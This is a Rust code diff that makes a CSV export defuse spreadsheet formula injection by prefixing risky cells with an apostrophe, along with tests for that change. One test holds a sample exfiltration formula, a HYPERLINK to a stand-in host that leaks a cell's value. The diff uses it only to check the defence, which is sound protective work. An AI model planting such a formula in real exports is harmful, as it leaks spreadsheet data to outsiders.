@@ -5,7 +5,7 @@
 use chrono::{DateTime, NaiveDate, Utc};
 use serde_json::{json, Value};
 
-use super::{db, fail, Failure, Outcome, EXIT_OK, EXIT_USAGE};
+use super::{db, fail, Failure, Outcome, EXIT_FAILURE, EXIT_OK, EXIT_USAGE};
 use crate::store::Store;
 
 /// The columns, in order (CSV header and JSON keys).
@@ -92,17 +92,35 @@ pub async fn rows(
     Ok(out)
 }
 
-fn csv_field(v: &Value) -> String {
-    let text = match v {
+/// A cell's text. A string that a spreadsheet would run as a formula (it starts with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return: OWASP's CSV-injection list) gets a leading
+/// `'`, which makes it plain text; [`to_csv`] then quotes it. Numbers are not strings
+/// offboard was handed, so a negative one stays a number.
+fn cell(v: &Value) -> String {
+    match v {
         Value::Null => String::new(),
+        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
         Value::String(s) => s.clone(),
         other => other.to_string(),
-    };
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text
     }
+}
+
+/// The rows as CSV with a header line. Fields are quoted when CSV needs it, and always
+/// when they hold a `'` — so every cell [`cell`] defused is a quoted field starting with
+/// `'`. (The csv crate quotes any field containing its `comment` byte; nothing here reads
+/// the output back with comments.)
+pub fn to_csv(rows: &[Value]) -> Result<String, csv::Error> {
+    let mut out = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Necessary)
+        .comment(Some(b'\''))
+        .from_writer(Vec::new());
+    out.write_record(COLUMNS)?;
+    for row in rows {
+        out.write_record(COLUMNS.iter().map(|c| cell(&row[*c])))?;
+    }
+    let bytes = out.into_inner().map_err(|e| e.into_error())?;
+    // Every cell came from a `String` or a JSON value, so the bytes are UTF-8.
+    Ok(String::from_utf8_lossy(&bytes).into_owned())
 }
 
 /// `offboard evidence`.
@@ -115,13 +133,10 @@ pub async fn run(store: &Store, since: &str, until: Option<&str>, format: &str) 
             "{}",
             serde_json::to_string_pretty(&rows).unwrap_or_default()
         ),
-        "csv" => {
-            println!("{}", COLUMNS.join(","));
-            for row in &rows {
-                let fields: Vec<String> = COLUMNS.iter().map(|c| csv_field(&row[*c])).collect();
-                println!("{}", fields.join(","));
-            }
-        }
+        "csv" => print!(
+            "{}",
+            to_csv(&rows).map_err(|e| fail(EXIT_FAILURE, format!("cannot write CSV: {e}")))?
+        ),
         other => {
             return Err(fail(
                 EXIT_USAGE,
@@ -136,15 +151,47 @@ pub async fn run(store: &Store, since: &str, until: Option<&str>, format: &str) 
 mod tests {
     use super::*;
 
+    /// The CSV of one row whose `person_email` is `email` and `event_id` is `event`.
+    fn line(email: Value, event: Value) -> String {
+        let row = json!({"person_email": email, "event_id": event});
+        let csv = to_csv(&[row]).unwrap();
+        let mut lines = csv.lines();
+        assert_eq!(lines.next(), Some(COLUMNS.join(",").as_str()));
+        let line = lines.next().unwrap().to_string();
+        assert_eq!(lines.next(), None);
+        line
+    }
+
     #[test]
     fn csv_fields_are_quoted_only_when_needed() {
-        assert_eq!(csv_field(&json!("plain")), "plain");
+        assert_eq!(line(json!("plain"), json!(42)), ",plain,,,42,,,,,,,,,,,,");
         assert_eq!(
-            csv_field(&json!({"a": 1, "b": "x"})),
-            "\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\""
+            line(json!({"a": 1, "b": "x"}), Value::Null),
+            ",\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\",,,,,,,,,,,,,,,"
         );
-        assert_eq!(csv_field(&Value::Null), "");
-        assert_eq!(csv_field(&json!(42)), "42");
+        assert_eq!(line(json!("a,b"), json!(-3)), ",\"a,b\",,,-3,,,,,,,,,,,,");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_defused() {
+        let attack = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
+        assert_eq!(
+            line(json!(attack), json!("@SUM(1+1)")),
+            r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,"'@SUM(1+1)",,,,,,,,,,,,"#
+        );
+        for lead in ["+", "-", "\t", "\r"] {
+            let text = format!("{lead}1+1");
+            assert_eq!(cell(&json!(text)), format!("'{text}"));
+            assert!(line(json!(text), Value::Null).starts_with(&format!(",\"'{lead}1+1\",")));
+        }
+        // A defused cell reads back as the text it was, behind the `'`.
+        let csv = to_csv(&[json!({"person_email": attack})]).unwrap();
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        assert_eq!(&record[1], format!("'{attack}"));
+        // Numbers and text that only contains such characters are left as they are.
+        assert_eq!(cell(&json!(-5)), "-5");
+        assert_eq!(cell(&json!("ada@example.com")), "ada@example.com");
     }
 
     #[test]
